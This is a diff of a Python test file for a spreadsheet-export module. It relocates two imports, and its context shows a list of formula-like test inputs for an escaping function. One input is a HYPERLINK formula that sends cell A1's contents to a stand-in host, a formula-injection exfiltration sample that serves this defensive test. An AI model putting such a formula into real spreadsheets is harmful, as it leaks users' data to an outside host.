@@ -13,8 +13,8 @@ from types import SimpleNamespace
 import pytest
 from openpyxl import load_workbook
 
-from docgen.register_sheet import register_xlsx
-from docgen.spreadsheet import escape_formula
+from docgen.sheets.register_sheet import register_xlsx
+from docgen.sheets.spreadsheet import escape_formula
 
 STARTS_LIKE_A_FORMULA = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "+84 912 345 678", "-1+2",
                          "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
